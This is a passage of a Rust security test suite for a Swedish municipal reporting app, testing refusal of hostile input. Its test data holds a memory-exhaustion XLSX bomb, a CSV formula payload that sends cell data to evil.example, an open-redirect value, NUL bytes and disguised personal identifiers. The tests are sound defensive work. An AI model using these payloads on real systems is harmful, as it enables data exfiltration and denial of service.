//! Värn's promises under hostile and concurrent use, on SQLite and PostgreSQL: concurrent
//! submissions (alone and beside a long import) all get their receipts; files built to
//! exhaust memory are refused by name; heavy requests do not stall the server; no
//! identifier reaches any table through any field; and the smaller holes stay shut
//! (redirects, CSV formulas, client addresses behind a proxy, NUL, page numbers).

use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::common::{spawn_app, spawn_app_with, TestApp, PASSWORD};
use reqwest::Method;
use serde_json::{json, Value};
use varn::db::Backend;

/// An identity number (valid check digit) and a name that must never be stored.
const PNR: &str = "811228-9874";
const NAME: &str = "Johan Andersson";

fn report(admin: i64, text: &str, key: &str) -> Value {
    json!({"administration_id": admin, "occurred_from": "2026-09-30", "concerns": "none",
           "description": text, "submission_key": key})
}

/// Sends `n` forms through the API, `at_once` at a time; returns the statuses.
async fn submit_many(
    app: &TestApp,
    token: &str,
    admin: i64,
    batch: &str,
    n: usize,
    at_once: usize,
) -> Vec<u16> {
    let gate = Arc::new(tokio::sync::Semaphore::new(at_once));
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..n {
        let gate = gate.clone();
        let request = app
            .api(Method::POST, "/api/v1/reports", token)
            .json(&report(
                admin,
                "Klistermärken med runor vid busshållplatsen.",
                &format!("concurrent-submission-{batch}-{i:06}"),
            ));
        tasks.spawn(async move {
            let _permit = gate.acquire_owned().await.expect("permit");
            match request.send().await {
                Ok(r) => r.status().as_u16(),
                Err(_) => 0,
            }
        });
    }
    let mut statuses = Vec::new();
    while let Some(s) = tasks.join_next().await {
        statuses.push(s.expect("task"));
    }
    statuses
}

async fn count(app: &TestApp, sql: &str) -> i64 {
    sqlx::query_scalar(sql)
        .fetch_one(app.db.pool())
        .await
        .expect("count")
}

async fn concurrent_submissions_on(backend: Backend) {
    let app = spawn_app(backend).await;
    let token = app.token("medarbetare.sodermalm@demo.example").await;
    let sod = app.id_of("administrations", "SOD").await;
    let before = count(&app, "SELECT COUNT(*) FROM reports").await;
    let statuses = submit_many(&app, &token, sod, "alone", 200, 50).await;
    let created = statuses.iter().filter(|s| **s == 201).count();
    assert_eq!(
        created, 200,
        "{backend:?}: every form gets its receipt: {statuses:?}"
    );
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM reports").await,
        before + 200
    );

    // The same while a coordinator imports a large IA export.
    let coordinator = app.token("samordnare.sodermalm@demo.example").await;
    let rows: Vec<Value> = (0..30_000)
        .map(|i| json!({"row_key": format!("LAST-{i:05}"), "occurred_on": "2025-03-01", "area": "Södermalm", "vbe_flag": i % 3 == 0}))
        .collect();
    let import = app
        .api(
            Method::POST,
            &format!("/api/v1/administrations/{sod}/situation/ia"),
            &coordinator,
        )
        .json(&rows)
        .send();
    let import = tokio::spawn(import);
    // Let the import begin before the forms arrive.
    tokio::time::sleep(Duration::from_millis(200)).await;
    let statuses = submit_many(&app, &token, sod, "importing", 200, 50).await;
    let imported = import.await.expect("join").expect("import");
    assert_eq!(imported.status(), 200, "{backend:?}: the import finishes");
    let created = statuses.iter().filter(|s| **s == 201).count();
    assert_eq!(
        created, 200,
        "{backend:?}: forms during an import: {statuses:?}"
    );
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM reports").await,
        before + 400
    );
    assert_eq!(
        count(
            &app,
            "SELECT COUNT(*) FROM ia_incidents WHERE row_key LIKE 'LAST-%'"
        )
        .await,
        30_000
    );
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_submissions_all_get_receipts_on_sqlite() {
    concurrent_submissions_on(Backend::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_submissions_all_get_receipts_on_postgres() {
    concurrent_submissions_on(Backend::Postgres).await;
}

/// An XLSX whose sheet says it spans A1:XFD1048576, with a cell at each corner.
fn dimension_bomb() -> Vec<u8> {
    use std::io::{Read, Write};
    let mut wb = rust_xlsxwriter::Workbook::new();
    wb.add_worksheet().write_string(0, 0, "a").expect("cell");
    let bytes = wb.save_to_buffer().expect("xlsx");
    let sheet = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="XFD1" t="inlineStr"><is><t>b</t></is></c></row>
<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>c</t></is></c><c r="XFD1048576" t="inlineStr"><is><t>d</t></is></c></row>
</sheetData></worksheet>"#;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("zip");
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for i in 0..archive.len() {
        let mut entry = archive.by_index(i).expect("entry");
        let name = entry.name().expect("name").to_string();
        let mut content = Vec::new();
        entry.read_to_end(&mut content).expect("read");
        out.start_file(name.as_str(), options).expect("start");
        let part: &[u8] = if name == "xl/worksheets/sheet1.xml" {
            sheet.as_bytes()
        } else {
            &content
        };
        out.write_all(part).expect("write");
    }
    out.finish().expect("finish").into_inner()
}

async fn hostile_files_on(backend: Backend) {
    let app = spawn_app(backend).await;
    let bomb = dimension_bomb();
    assert!(bomb.len() < 16 * 1024, "{} bytes", bomb.len());
    let sod = app.id_of("administrations", "SOD").await;
    let plan: i64 = sqlx::query_scalar("SELECT id FROM plans WHERE status = 'draft' LIMIT 1")
        .fetch_optional(app.db.pool())
        .await
        .expect("plan")
        .unwrap_or(0);
    // Every import a coordinator or the administrator can reach.
    let admin = app.fresh_client();
    admin.sign_in("admin@demo.example").await;
    let coordinator = app.fresh_client();
    coordinator
        .sign_in("samordnare.sodermalm@demo.example")
        .await;
    let mut tries = vec![
        (&admin, "/organisation/import".to_string()),
        (&admin, "/personer/import".to_string()),
        (
            &coordinator,
            format!("/lagesbild/forvaltningar/{sod}/kallor/ia"),
        ),
        (
            &coordinator,
            format!("/lagesbild/forvaltningar/{sod}/kallor/klotter/import"),
        ),
        (
            &coordinator,
            format!("/lagesbild/forvaltningar/{sod}/kallor/orosanmalningar/import"),
        ),
        (
            &coordinator,
            format!("/lagesbild/forvaltningar/{sod}/hatbrott/import"),
        ),
    ];
    if plan > 0 {
        tries.push((&coordinator, format!("/planer/{plan}/aktiviteter/import")));
    }
    for (who, path) in tries {
        let r = who.post_file(&path, "bomb.xlsx", &bomb).await;
        let status = r.status().as_u16();
        let html = r.text().await.unwrap_or_default();
        assert!(
            status == 422 || (status == 303 && path.ends_with("/ia")),
            "{backend:?} {path}: {status}"
        );
        if status == 422 {
            assert!(
                html.contains("kolumner"),
                "{path}: the limit is named: {html}"
            );
        }
        assert_eq!(
            app.get("/healthz").await.status(),
            200,
            "alive after {path}"
        );
    }
    // The API takes the file as its body.
    let token = app.token("admin@demo.example").await;
    let r = app
        .api(Method::POST, "/api/v1/organisation/import", &token)
        .body(bomb.clone())
        .send()
        .await
        .expect("api");
    assert_eq!(r.status(), 422);
    let body: Value = r.json().await.expect("json");
    assert!(
        body["problems"][0]["message"]
            .as_str()
            .expect("message")
            .contains("100")
            || body.to_string().contains("kolumner"),
        "{body}"
    );
    // A body past its route's limit is refused before it is read whole: 413, or the
    // connection closed on a client that was still sending (the server does not read the
    // rest to say no), as in `heavy_checks_do_not_stall_the_server`.
    // A 413 says `Connection: close`: the unread rest makes the connection unusable, and a
    // client that pooled it would see its next request broken.
    let big = vec![b'a'; varn::import::table::MAX_BYTES + 1024 * 1024];
    let (status, connection) = app
        .api(Method::POST, "/api/v1/organisation/import", &token)
        .body(big)
        .send()
        .await
        .map(|r| {
            let connection = r
                .headers()
                .get("connection")
                .and_then(|v| v.to_str().ok())
                .unwrap_or("")
                .to_string();
            (r.status().as_u16(), connection)
        })
        .unwrap_or((0, String::new()));
    assert!(
        status == 413 || status == 0,
        "an oversized body got {status}"
    );
    if status == 413 {
        assert_eq!(connection, "close", "a refused body closes its connection");
    }
    assert_eq!(app.get("/healthz").await.status(), 200, "alive after it");
    app.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_files_are_refused_by_name_on_sqlite() {
    hostile_files_on(Backend::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_files_are_refused_by_name_on_postgres() {
    hostile_files_on(Backend::Postgres).await;
}

// A body refused for its size is not read to its end, so its connection cannot carry
// another request. The 413 says `Connection: close` and the server closes it; without the
// header a client pools the connection and its next request breaks (seen once in CI as a
// failed `/healthz` after an oversized import). Spoken by hand to see the header: one byte
// past the route's limit, all of it sent, so the server reads every byte it was sent.
both_backends!(a_refused_body_closes_its_connection, |app| {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let token = app.token("medarbetare.sodermalm@demo.example").await;
    let host = app.base.trim_start_matches("http://").to_string();
    let stream = tokio::net::TcpStream::connect(&host)
        .await
        .expect("connect");
    let (mut reading, mut writing) = stream.into_split();
    let text = "a".repeat(varn::web::routes::body::TEXT);
    let body = format!("{{\"text\": \"{text}\"}}");
    let head = format!(
        "POST /api/v1/pii/check HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    let sending = tokio::spawn(async move {
        // The server may stop reading and close early; a failed write is then no error.
        let _ = writing.write_all(head.as_bytes()).await;
        let _ = writing.write_all(body.as_bytes()).await;
        writing
    });
    let mut answer = Vec::new();
    tokio::time::timeout(Duration::from_secs(20), reading.read_to_end(&mut answer))
        .await
        .expect("the server answers and closes")
        .expect("read");
    drop(sending.await);
    let answer = String::from_utf8_lossy(&answer).to_lowercase();
    assert!(answer.starts_with("http/1.1 413"), "{answer}");
    assert!(answer.contains("\r\nconnection: close\r\n"), "{answer}");
    assert_eq!(app.get("/healthz").await.status(), 200, "alive after it");
});

// While big texts are checked by the guard and oversized ones refused, the server still
// answers `/healthz` at once. (The 100 ms target is measured in bench/load; this holds the
// property that heavy requests no longer stall it for seconds.)
both_backends!(heavy_checks_do_not_stall_the_server, |app| {
    let token = app.token("medarbetare.sodermalm@demo.example").await;
    let huge = "Ordinär text om klotter vid skolan. ".repeat(450_000); // about 15.6 MB
    let allowed = "Ordinär text om klotter vid skolan. ".repeat(800); // 28,000 characters
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..6 {
        let text = if i < 2 { huge.clone() } else { allowed.clone() };
        let request = app
            .api(Method::POST, "/api/v1/pii/check", &token)
            .json(&json!({ "text": text }));
        tasks.spawn(async move {
            let status = request
                .send()
                .await
                .map(|r| r.status().as_u16())
                .unwrap_or(0);
            (i, status)
        });
    }
    let mut slowest = Duration::ZERO;
    for _ in 0..10 {
        let started = Instant::now();
        assert_eq!(app.get("/healthz").await.status(), 200);
        slowest = slowest.max(started.elapsed());
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    while let Some(done) = tasks.join_next().await {
        let (i, status) = done.expect("task");
        if i < 2 {
            // Refused before it is read whole: 413, or the connection closed on a client
            // that was still sending (the server does not read 15 MB to say no).
            assert!(
                status == 413 || status == 0,
                "the oversized text got {status}"
            );
        } else {
            assert_eq!(status, 200, "a text within the limit");
        }
    }
    assert!(slowest < Duration::from_secs(2), "healthz took {slowest:?}");
    // A text over the limit that fits the body is refused naming the field.
    let over = "a".repeat(varn::reports::api::MAX_CHECKED + 1);
    let r = app
        .api(Method::POST, "/api/v1/pii/check", &token)
        .json(&json!({ "text": over }))
        .send()
        .await
        .expect("check");
    assert_eq!(r.status(), 422);
    let body: Value = r.json().await.expect("json");
    assert_eq!(body["problems"][0]["field"], "text");
    app.shutdown().await;
});

/// Digits and letters of a value, with full-width and Arabic-Indic digits as ASCII, so that
/// an identifier is found however it was spaced, cased or disguised.
fn folded(value: &str) -> (String, String) {
    let mut digits = String::new();
    let mut letters = String::new();
    for c in value.chars() {
        let c = match c as u32 {
            0xFF10..=0xFF19 => char::from(b'0' + (c as u32 - 0xFF10) as u8),
            0x0660..=0x0669 => char::from(b'0' + (c as u32 - 0x0660) as u8),
            _ => c,
        };
        if c.is_ascii_digit() {
            digits.push(c);
        } else if c.is_alphabetic() {
            letters.extend(c.to_lowercase());
        }
    }
    (digits, letters)
}

/// Every text value of every table.
async fn all_text(app: &TestApp, backend: Backend) -> Vec<(String, String, String)> {
    use sqlx::Row;
    let columns: Vec<(String, String)> = match backend {
        Backend::Sqlite => {
            let tables: Vec<String> = sqlx::query_scalar(
                "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' AND name NOT LIKE '_sqlx%'",
            )
            .fetch_all(app.db.pool())
            .await
            .expect("tables");
            let mut out = Vec::new();
            for t in tables {
                let rows = sqlx::query(&format!("SELECT name, type FROM pragma_table_info('{t}')"))
                    .fetch_all(app.db.pool())
                    .await
                    .expect("columns");
                for r in rows {
                    let name: String = r.try_get(0).expect("name");
                    let kind: String = r.try_get(1).expect("type");
                    if kind.to_uppercase().contains("TEXT") || kind.is_empty() {
                        out.push((t.clone(), name));
                    }
                }
            }
            out
        }
        Backend::Postgres => sqlx::query(
            "SELECT table_name::text, column_name::text FROM information_schema.columns \
             WHERE table_schema = 'public' AND data_type IN ('text', 'character varying') AND table_name NOT LIKE '_sqlx%'",
        )
        .fetch_all(app.db.pool())
        .await
        .expect("columns")
        .into_iter()
        .map(|r| (r.try_get(0).expect("t"), r.try_get(1).expect("c")))
        .collect(),
    };
    assert!(
        columns.len() > 50,
        "the walk sees the schema: {}",
        columns.len()
    );
    let mut values = Vec::new();
    for (table, column) in columns {
        let rows: Vec<Option<String>> =
            sqlx::query_scalar(&format!("SELECT CAST({column} AS TEXT) FROM {table}"))
                .fetch_all(app.db.pool())
                .await
                .unwrap_or_else(|e| panic!("{table}.{column}: {e}"));
        values.extend(
            rows.into_iter()
                .flatten()
                .map(|v| (table.clone(), column.clone(), v)),
        );
    }
    values
}

async fn hostile_fields_on(backend: Backend) {
    let app = spawn_app(backend).await;
    let sod = app.id_of("administrations", "SOD").await;
    let employee = app.token("medarbetare.sodermalm@demo.example").await;
    let coordinator = app.token("samordnare.sodermalm@demo.example").await;
    let disguises = [
        format!("{NAME} {PNR}"),
        "johan andersson 811228\u{200B}-9874".to_string(),
        "JOHAN ANDERSSON ８１１２２８－９８７４".to_string(),
        "Johan\u{00AD}Andersson, 81.12.28-9874".to_string(),
        "811228/9874 johan andersson".to_string(),
        "8 1 1 2 2 8 - 9 8 7 4 Johan Andersson".to_string(),
        "811228\r\n9874 Johan Andersson".to_string(),
    ];
    disguised_identifiers_in_a_form_are_refused(&app, backend, sod, &employee, &disguises).await;
    let form = a_clean_form(&app, sod, &employee).await;
    hostile_fields_are_refused(&app, backend, sod, form, &coordinator).await;
    let browser = app.fresh_client();
    browser.sign_in("samordnare.sodermalm@demo.example").await;
    a_file_named_for_a_person_keeps_its_rows(&browser, backend, sod).await;
    the_upload_token_comes_before_the_file(&browser, backend, sod).await;
    identifying_sign_ins_fail(&app).await;
    no_table_holds_the_identifiers(&app, backend).await;
    failed_sign_ins_are_logged_without_the_address(&app).await;
    app.shutdown().await;
}

async fn disguised_identifiers_in_a_form_are_refused(
    app: &TestApp,
    backend: Backend,
    sod: i64,
    employee: &str,
    disguises: &[String],
) {
    // The form, by every disguise: refused, nothing stored.
    for (i, text) in disguises.iter().enumerate() {
        let r = app
            .api(Method::POST, "/api/v1/reports", employee)
            .json(&report(
                sod,
                text,
                &format!("hostile-submission-key-{i:04}"),
            ))
            .send()
            .await
            .expect("post");
        assert_eq!(r.status(), 422, "{backend:?}: {text:?}");
        let body = r.text().await.expect("body");
        assert!(
            !body.contains("9874") && !body.contains("Andersson"),
            "never echoed: {body}"
        );
    }
}

async fn a_clean_form(app: &TestApp, sod: i64, employee: &str) -> i64 {
    // A clean form to hang links and notes on.
    let r = app
        .api(Method::POST, "/api/v1/reports", employee)
        .json(&report(
            sod,
            "Klotter med symboler vid skolan.",
            "hostile-submission-key-clean",
        ))
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), 201);
    let form: i64 = sqlx::query_scalar("SELECT MAX(id) FROM reports")
        .fetch_one(app.db.pool())
        .await
        .expect("id");
    form
}

async fn hostile_fields_are_refused(
    app: &TestApp,
    backend: Backend,
    sod: i64,
    form: i64,
    coordinator: &str,
) {
    let call = |method: Method, path: String, body: Value| {
        app.api(method, &path, coordinator).json(&body).send()
    };
    let refused = [
        call(
            Method::POST,
            format!("/api/v1/reports/{form}/links"),
            json!({"kind": "ia", "reference": PNR}),
        ),
        call(
            Method::POST,
            format!("/api/v1/reports/{form}/links"),
            json!({"kind": "ia", "reference": format!("IA-{PNR}")}),
        ),
        call(
            Method::POST,
            format!("/api/v1/reports/{form}/notes"),
            json!({"note": format!("{NAME} ringde")}),
        ),
        call(
            Method::PATCH,
            format!("/api/v1/reports/{form}"),
            json!({"status": "forwarded", "forwarded_to": format!("polisen, {NAME}")}),
        ),
        call(
            Method::POST,
            format!("/api/v1/administrations/{sod}/situation/ia"),
            json!([{"row_key": PNR, "occurred_on": "2025-01-01", "vbe_flag": true}]),
        ),
        call(
            Method::POST,
            format!("/api/v1/administrations/{sod}/situation/ia"),
            json!([{"row_key": "IA-1", "occurred_on": "2025-01-01", "area": NAME, "vbe_flag": true}]),
        ),
        call(
            Method::POST,
            format!("/api/v1/administrations/{sod}/situation/graffiti"),
            json!([{"key": format!("19{PNR}"), "reported_on": "2025-01-01", "category": "nazi"}]),
        ),
        call(
            Method::POST,
            format!("/api/v1/administrations/{sod}/hate-crimes"),
            json!([{"year": 2024, "area": NAME, "category": "hatbrott", "count": 3}]),
        ),
        call(
            Method::POST,
            format!("/api/v1/administrations/{sod}/partner-links"),
            json!({"label": format!("Till {NAME}"), "days": 30}),
        ),
        call(
            Method::POST,
            format!("/api/v1/administrations/{sod}/contacts"),
            json!({"name": "Samordnare", "title": format!("{PNR}")}),
        ),
    ];
    for (i, r) in futures_join(refused).await.into_iter().enumerate() {
        assert_eq!(r, 422, "{backend:?}: hostile field {i} is refused");
    }
}

async fn a_file_named_for_a_person_keeps_its_rows(browser: &TestApp, backend: Backend, sod: i64) {
    // A file whose name names a person: the rows are kept, the name is not.
    let r = browser
        .post_file(
            &format!("/lagesbild/forvaltningar/{sod}/kallor/klotter/import"),
            &format!("{NAME} {PNR}.csv"),
            "datum;kategori;område\n2025-02-01;nazi;Södermalm\n".as_bytes(),
        )
        .await;
    assert_eq!(r.status(), 303, "{backend:?}: the rows are imported");
}

async fn the_upload_token_comes_before_the_file(browser: &TestApp, backend: Backend, sod: i64) {
    // The upload's token is its first field, never in the address: no token, a wrong one,
    // or one that arrives only after the file is refused before the file is read.
    // (The rows above were imported once; a second import of the same rows would be
    // refused as a duplicate with another message, not this one.)
    let path = format!("/lagesbild/forvaltningar/{sod}/kallor/klotter/import");
    let csv = "datum;kategori;område\n2025-02-02;nazi;Södermalm\n".as_bytes();
    for token in [None, Some("fel-token")] {
        let r = browser.post_multipart(&path, token, "a.csv", csv).await;
        // A page's form whose token fails says it has expired (409), as every form does.
        assert_eq!(r.status(), 409, "{backend:?}: {token:?}");
        let html = r.text().await.unwrap_or_default();
        assert!(
            html.contains("Formuläret har gått ut"),
            "{backend:?}: {html}"
        );
    }
    let late = browser.csrf().await;
    let mut big = vec![b'x'; 64 * 1024];
    big.extend_from_slice(format!("\r\n--varn-test-boundary\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{late}").as_bytes());
    let r = browser.post_multipart(&path, None, "a.csv", &big).await;
    assert_eq!(r.status(), 409, "{backend:?}: a token after the file");
    assert!(r
        .text()
        .await
        .unwrap_or_default()
        .contains("Formuläret har gått ut"));
}

async fn identifying_sign_ins_fail(app: &TestApp) {
    // A failed sign-in with an identifying address, and one as long as a book.
    let stranger = app.fresh_client();
    // Just under the sign-in form's body limit.
    let long = format!("{}@evil.example", "x".repeat(60 * 1024));
    for email in [format!("johan.andersson.{PNR}@evil.example"), long] {
        let r = stranger.sign_in_as(&email, "fel-lösenord").await;
        assert_eq!(r.status(), 401);
    }
}

async fn no_table_holds_the_identifiers(app: &TestApp, backend: Backend) {
    let values = all_text(app, backend).await;
    let pnr_digits = "8112289874";
    for (table, column, value) in &values {
        let (digits, letters) = folded(value);
        assert!(
            !digits.contains(pnr_digits),
            "{backend:?}: {table}.{column} holds the identity number"
        );
        assert!(
            !letters.contains("johanandersson") && !letters.contains("anderssonjohan"),
            "{backend:?}: {table}.{column} holds the name"
        );
        assert!(
            value.len() < 100_000,
            "{backend:?}: {table}.{column} holds {} bytes",
            value.len()
        );
    }
}

async fn failed_sign_ins_are_logged_without_the_address(app: &TestApp) {
    let unknown: i64 = count(
        app,
        "SELECT COUNT(*) FROM audit_log WHERE action = 'sign_in_failed' AND actor = 'okänt konto'",
    )
    .await;
    assert_eq!(unknown, 2);
}

/// Runs the requests one after the other, returning their statuses.
async fn futures_join<F>(requests: impl IntoIterator<Item = F>) -> Vec<u16>
where
    F: std::future::Future<Output = reqwest::Result<reqwest::Response>>,
{
    let mut out = Vec::new();
    for r in requests {
        out.push(r.await.map(|r| r.status().as_u16()).unwrap_or(0));
    }
    out
}

#[tokio::test]
async fn no_identifier_reaches_any_table_on_sqlite() {
    hostile_fields_on(Backend::Sqlite).await;
}

#[tokio::test]
async fn no_identifier_reaches_any_table_on_postgres() {
    hostile_fields_on(Backend::Postgres).await;
}

async fn smaller_holes_on(backend: Backend) {
    // Behind a proxy on 127.0.0.1 that writes X-Forwarded-For.
    let app = spawn_app_with(backend, |c| {
        c.trusted_proxies = vec!["127.0.0.1".parse().expect("ip")];
    })
    .await;
    the_redirect_after_sign_in_stays_on_the_site(&app).await;
    one_guesser_behind_the_proxy_does_not_lock_out_the_others(&app).await;
    let employee = app.token("medarbetare.sodermalm@demo.example").await;
    let sod = app.id_of("administrations", "SOD").await;
    nul_is_refused_in_json_naming_the_field(&app, &employee, sod).await;
    let browser = app.fresh_client();
    browser.sign_in("samordnare.sodermalm@demo.example").await;
    nul_is_dropped_from_forms(&browser, sod).await;
    page_numbers_past_any_bound_are_an_ordinary_answer(&app, &browser).await;
    a_partners_formula_is_text_in_the_export(&app, &employee, sod).await;
    app.shutdown().await;
}

async fn the_redirect_after_sign_in_stays_on_the_site(app: &TestApp) {
    // The redirect after sign-in stays on the site.
    let visitor = app.fresh_client();
    let (_, html) = visitor.get_text("/logga-in?next=/%09/evil.example/x").await;
    let token = crate::common::extract_csrf(&html).expect("csrf");
    let r = visitor
        .post_form(
            "/logga-in",
            &[
                ("csrf", token.as_str()),
                ("email", "central@demo.example"),
                ("password", PASSWORD),
                ("next", "/\t/evil.example/x"),
            ],
        )
        .await;
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], "/start");
}

async fn one_guesser_behind_the_proxy_does_not_lock_out_the_others(app: &TestApp) {
    // Client addresses: one guesser behind the proxy does not lock out the others.
    let guess = |from: &'static str| {
        let client = app.fresh_client();
        async move {
            let r = client
                .client
                .post(format!("{}/api/v1/reports/status", client.base))
                .header("x-forwarded-for", format!("198.51.100.1, {from}"))
                .json(&json!({"receipt": "ZZZZ-ZZZZ-ZZZZ"}))
                .send()
                .await
                .expect("status");
            r.status().as_u16()
        }
    };
    for _ in 0..50 {
        assert_eq!(guess("203.0.113.7").await, 404);
    }
    assert_eq!(guess("203.0.113.7").await, 409, "the guesser is stopped");
    assert_eq!(
        guess("203.0.113.8").await,
        404,
        "a colleague behind the same proxy is not"
    );
}

async fn nul_is_refused_in_json_naming_the_field(app: &TestApp, employee: &str, sod: i64) {
    // NUL: refused in JSON naming the field, dropped from forms, never a 500.
    let r = app
        .api(Method::POST, "/api/v1/reports", employee)
        .json(&report(
            sod,
            "Klotter\u{0} vid skolan.",
            "nul-submission-key-000001",
        ))
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), 422);
    let body: Value = r.json().await.expect("json");
    assert_eq!(body["problems"][0]["field"], "description", "{body}");
    let r = app
        .api(
            Method::GET,
            "/api/v1/reports?status=new%00",
            &app.token("samordnare.sodermalm@demo.example").await,
        )
        .send()
        .await
        .expect("get");
    assert_eq!(r.status(), 422);
}

async fn nul_is_dropped_from_forms(browser: &TestApp, sod: i64) {
    let csrf = browser.csrf().await;
    let r = browser
        .post_form(
            &format!("/inkorg/forvaltningar/{sod}/lankar"),
            &[
                ("csrf", csrf.as_str()),
                ("label", "Nattvandrarna\u{0}"),
                ("days", "30"),
                ("max_reports", "10"),
            ],
        )
        .await;
    assert!(r.status().as_u16() < 500, "{}", r.status());
}

async fn page_numbers_past_any_bound_are_an_ordinary_answer(app: &TestApp, browser: &TestApp) {
    // Page numbers past any bound are an ordinary answer.
    let central = app.token("central@demo.example").await;
    for path in [
        "/api/v1/audit?page=96540151506263296",
        "/api/v1/reports?page=96540151506263296&per_page=99999999999",
    ] {
        let r = app
            .api(Method::GET, path, &central)
            .send()
            .await
            .expect("get");
        assert!(
            r.status() == 200 || r.status() == 422,
            "{path}: {}",
            r.status()
        );
    }
    let (status, _) = browser
        .get_text("/inkorg?page=99999999999999999999999")
        .await;
    assert_eq!(status, 200);
    let (status, _) = browser.get_text("/logg?page=96540151506263296").await;
    assert_eq!(status, 200);
}

async fn a_partners_formula_is_text_in_the_export(app: &TestApp, employee: &str, sod: i64) {
    // CSV cells: a partner's formula comes out as text in the coordinator's export.
    let formula = r#"=hyperlink("http://evil.example/?d="&A2,"Klicka här")"#;
    let r = app
        .api(Method::POST, "/api/v1/reports", employee)
        .json(&report(sod, formula, "formula-submission-key-0001"))
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), 201);
    let id: i64 = sqlx::query_scalar("SELECT MAX(id) FROM reports")
        .fetch_one(app.db.pool())
        .await
        .expect("id");
    let coordinator = app.token("samordnare.sodermalm@demo.example").await;
    let r = app
        .api(
            Method::PATCH,
            &format!("/api/v1/reports/{id}"),
            &coordinator,
        )
        .json(&json!({"status": "assessed_vbe"}))
        .send()
        .await
        .expect("assess");
    assert!(r.status().is_success(), "{}", r.status());
    let csv = app
        .api(
            Method::GET,
            "/api/v1/reports/export?format=csv&free_text=1",
            &coordinator,
        )
        .send()
        .await
        .expect("export")
        .text()
        .await
        .expect("csv");
    assert!(csv.contains("\"'=hyperlink("), "{csv}");
    assert!(!csv.contains(";\"=hyperlink(") && !csv.contains(";=hyperlink("));
}

#[tokio::test]
async fn smaller_holes_stay_shut_on_sqlite() {
    smaller_holes_on(Backend::Sqlite).await;
}

#[tokio::test]
async fn smaller_holes_stay_shut_on_postgres() {
    smaller_holes_on(Backend::Postgres).await;
}

// An administrator cannot give themselves a role that reads forms; another can, and the
// central coordinator sees it.
both_backends!(no_one_grants_themselves_the_forms, |app| {
    let admin = app.token("admin@demo.example").await;
    let me: i64 = sqlx::query_scalar("SELECT id FROM users WHERE email = 'admin@demo.example'")
        .fetch_one(app.db.pool())
        .await
        .expect("me");
    let sod = app.id_of("administrations", "SOD").await;
    let r = app
        .api(Method::POST, &format!("/api/v1/users/{me}/grants"), &admin)
        .json(&json!({"role": "coordinator", "administration_id": sod}))
        .send()
        .await
        .expect("grant");
    assert_eq!(r.status(), 422);
    let body: Value = r.json().await.expect("json");
    assert!(
        body["problems"][0]["message"]
            .as_str()
            .expect("m")
            .contains("dig själv"),
        "{body}"
    );
    // A second administrator gives it; the central coordinator's start page names it.
    let second: i64 = sqlx::query_scalar(
        "INSERT INTO users (email, name, active, created_at, updated_at) VALUES ('admin2@demo.example', 'Andra Förvaltaren', 1, '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z') RETURNING id",
    )
    .fetch_one(app.db.pool())
    .await
    .expect("user");
    sqlx::query("INSERT INTO role_grants (user_id, role, administration_id, unit_id, created_at) VALUES ($1, 'administrator', NULL, NULL, '2026-01-01T00:00:00Z')")
        .bind(second)
        .execute(app.db.pool())
        .await
        .expect("grant");
    let other = varn::auth::tokens::create(&app.db, varn::kernel::ids::UserId::new(second), "test")
        .await
        .expect("token");
    let r = app
        .api(Method::POST, &format!("/api/v1/users/{me}/grants"), &other)
        .json(&json!({"role": "coordinator", "administration_id": sod}))
        .send()
        .await
        .expect("grant");
    assert_eq!(r.status(), 201);
    let central = app.fresh_client();
    central.sign_in("central@demo.example").await;
    let (_, html) = central.get_text("/start").await;
    assert!(
        html.contains("Systemförvaltare som kan läsa blanketter")
            && html.contains("admin@demo.example"),
        "{html}"
    );
    app.shutdown().await;
});

// The guard knows the municipality's own units by name, also one made a moment ago, so a
// form may name the unit where something happened.
both_backends!(the_guard_knows_the_organisations_names, |app| {
    let employee = app.token("medarbetare.sodermalm@demo.example").await;
    let check = |text: &'static str| {
        app.api(Method::POST, "/api/v1/pii/check", &employee)
            .json(&json!({ "text": text }))
            .send()
    };
    let text = "Igår var vi hos Parkleken Hornsberg och pratade med personalen.";
    assert!(
        !varn_pii::Guard::default().scan(text).is_clean(),
        "without the organisation the unit reads as a name"
    );
    let flags: Value = check(text)
        .await
        .expect("check")
        .json()
        .await
        .expect("json");
    assert_eq!(flags, json!([]), "a demo unit is no person");
    // A unit made now is known at once.
    let admin = app.token("admin@demo.example").await;
    let sod = app.id_of("administrations", "SOD").await;
    let department: i64 =
        sqlx::query_scalar("SELECT id FROM departments WHERE administration_id = $1 LIMIT 1")
            .bind(sod)
            .fetch_one(app.db.pool())
            .await
            .expect("department");
    let text = "Igår var vi hos Parkleken Zorbaberg och pratade med personalen.";
    assert!(!varn_pii::Guard::default().scan(text).is_clean());
    let r = app
        .api(Method::POST, &format!("/api/v1/administrations/{sod}/units"), &admin)
        .json(&json!({"code": "SOD-ZORB", "name": "Parkleken Zorbaberg", "department_id": department, "headcount": 4}))
        .send()
